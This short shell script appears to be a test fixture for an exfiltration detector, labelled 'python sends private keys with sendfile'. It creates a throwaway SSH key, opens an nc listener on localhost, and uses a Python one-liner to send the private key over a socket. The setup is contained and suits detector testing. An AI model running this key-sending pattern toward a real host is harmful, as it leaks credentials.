# about: python sends private keys with sendfile
# expect: exfiltration medium
# needs: python3 nc ssh-keygen
mkdir -p /root/.ssh; rm -f /root/.ssh/id_ed25519; ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
nc -l 127.0.0.1 6504 >got & L=$!
sleep 0.4; python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",6504)); s.sendfile(open("/root/.ssh/id_ed25519","rb")); s.close()'; wait $L; cmp got /root/.ssh/id_ed25519
